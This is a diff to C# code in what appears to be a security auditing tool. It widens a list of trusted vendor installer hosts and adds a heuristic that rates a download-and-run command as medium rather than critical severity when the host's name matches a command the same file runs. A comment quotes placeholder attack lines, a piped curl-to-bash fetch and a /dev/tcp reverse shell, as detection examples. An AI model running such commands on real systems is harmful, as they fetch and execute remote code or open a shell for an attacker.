@@ -19,7 +19,10 @@ public static partial class Origins
         "sdk.cloud.google.com", "awscli.amazonaws.com", "fly.io", "deb.nodesource.com", "rpm.nodesource.com", "get.rvm.io", "mise.run", "get.jetpack.io",
         "install.duckdb.org", "cli.doppler.com", "get.pulumi.com", "get.sdkman.io", "bitwarden.com", "1password.com", "cli.vercel.com", "supabase.com",
         "repo.anaconda.com", "repo.continuum.io", "github.com/conda-forge/miniforge/", "dl.k8s.io", "raw.githubusercontent.com/aquasecurity/",
-        "raw.githubusercontent.com/anchore/", "get.trunk.io", "install.terraform.io", "firebase.tools", "get.scoop.sh",
+        "raw.githubusercontent.com/anchore/", "get.trunk.io", "install.terraform.io", "firebase.tools", "get.scoop.sh", "setup.atuin.sh", "rclone.org",
+        "raw.githubusercontent.com/ohmyzsh/", "install.ohmyz.sh", "raw.githubusercontent.com/helm/", "get.acme.sh", "zed.dev", "install.pi-hole.net",
+        "raw.githubusercontent.com/pyenv/", "pkgx.sh", "get.chezmoi.io", "get.jetify.com", "get.k0s.sh", "install.meteor.com", "code-server.dev",
+        "raw.githubusercontent.com/golangci/", "install.crystal-lang.org", "get.wasmer.io", "wasmtime.dev", "dot.net", "install.julialang.org", "ohmyposh.dev",
     ];
 
     /// <summary>download-exec: medium from a vendor's documented installer host, critical from anywhere else.</summary>
@@ -46,9 +49,33 @@ public static partial class Origins
         }
 
         return VendorInstallers.Any(v => target.StartsWith(v, StringComparison.OrdinalIgnoreCase) || target.Contains("." + v, StringComparison.OrdinalIgnoreCase))
+            || SelfNamed(text, target)
             ? AuditSeverity.Medium
             : AuditSeverity.Critical;
     }
+
+    /// <summary>
+    /// An installer from the tool's own site: the host's name (<c>rclone</c> of rclone.org, <c>atuin</c> of setup.atuin.sh,
+    /// the repository of a raw GitHub URL) is a command the same file runs (<c>rclone sync</c>, <c>`atuin search`</c>). Never
+    /// for a name of the platform (an "openclaw-cli" site is the lure's helper), nor for names shorter than four letters.
+    /// </summary>
+    private static bool SelfNamed(string text, string target)
+    {
+        var parts = target.Split('/');
+        var labels = parts[0].Split('.');
+        var name = parts[0].StartsWith("raw.githubusercontent.com", StringComparison.OrdinalIgnoreCase) || parts[0].Equals("github.com", StringComparison.OrdinalIgnoreCase)
+            ? parts.Length > 2 ? parts[2] : string.Empty
+            : labels.Length >= 2 ? labels[^2] : string.Empty;
+        if (name.Length < 4 || PlatformName().IsMatch(name) || !name.All(c => char.IsAsciiLetterOrDigit(c) || c == '-'))
+        {
+            return false;
+        }
+
+        return new Regex(@"(?m)(?:^[ \t]*(?:\$[ \t]+)?|`)" + Regex.Escape(name) + @"[ \t]+[\w-]", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant, TimeSpan.FromSeconds(1)).IsMatch(text);
+    }
+
+    [GeneratedRegex(@"claw|molt|agent|skill|helper|update|setup|install|runtime|download|cdn|static|files?|get|raw", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex PlatformName();
 
     /// <summary>
     /// A command whose target is a placeholder (<c>curl http://&lt;ip&gt;/x | bash</c>, <c>bash -i &gt;&amp; /dev/tcp/&lt;ip&gt;/&lt;port&gt;</c>,
